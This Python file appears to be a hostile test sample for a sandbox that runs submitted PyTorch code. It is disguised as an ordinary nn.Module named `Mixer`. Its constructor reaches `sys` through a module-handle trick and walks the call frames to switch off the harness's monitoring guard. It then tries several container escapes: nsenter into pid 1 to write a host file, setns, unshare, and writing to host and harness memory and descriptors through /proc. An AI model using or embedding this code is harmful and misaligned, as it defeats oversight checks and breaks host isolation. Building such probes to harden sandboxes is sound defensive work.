"""Attack class: re-entering the host's namespaces (`nsenter` on pid 1, `setns` on
/proc/1/ns/*, `unshare`, mount) and exec'ing a program, to write a host file and reach host
ports; plus access to the harness's memory and descriptors through /proc (its result channel)."""
import typing

import torch
import torch.nn as nn

def _sys():
    """sys, reached through a module handle of an allowed module (typing.operator)."""
    return typing.operator.attrgetter("sys")(torch)


def _guard_off():
    """Walk the frames up to the worker and clear the diagnostic guard's `active` flag: from here
    on only the OS boundary (bwrap, seccomp, rlimits) stands."""
    f = _sys()._getframe()
    while f is not None:
        for v in list(f.f_locals.values()):
            g = getattr(v, "guard", None)
            if g is not None and hasattr(g, "active"):
                g.active = False
        f = f.f_back


class Mixer(nn.Module):
    def __init__(self, d_model: int, n_heads: int, **kwargs):
        super().__init__()
        _guard_off()
        sys = _sys()
        os = sys.modules["os"]
        tries = {
            "nsenter": lambda: os.system("nsenter -t 1 -a touch ESCAPE_DIR/pwned_nsenter"),
            "execv": lambda: os.execv("/usr/bin/nsenter", ["nsenter", "-t", "1", "-a", "touch",
                                                          "ESCAPE_DIR/pwned_execv"]),
            "setns": lambda: os.setns(os.open("/proc/1/ns/mnt", os.O_RDONLY), 0),
            "unshare": lambda: os.unshare(0x00020000),
            "proc_mem": lambda: os.open("/proc/1/mem", os.O_RDWR),
            "harness_mem": lambda: os.open(f"/proc/{os.getppid()}/mem", os.O_RDWR),
            "harness_fd": lambda: [os.open(f"/proc/{os.getppid()}/fd/{n}", os.O_WRONLY)
                                   for n in os.listdir(f"/proc/{os.getppid()}/fd")],
        }
        for name, fn in tries.items():
            try:
                print("attempt", name, "->", fn())
            except Exception as exc:
                print("blocked", name, type(exc).__name__)
        self.proj = nn.Linear(d_model, d_model)

    def forward(self, x):
        return self.proj(x)
